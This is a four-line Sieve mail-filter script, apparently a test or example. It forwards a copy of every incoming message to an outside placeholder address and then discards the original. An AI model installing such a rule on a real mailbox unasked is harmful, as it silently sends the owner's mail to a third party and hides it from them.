require "copy";

redirect :copy "a@partner.example";
discard;
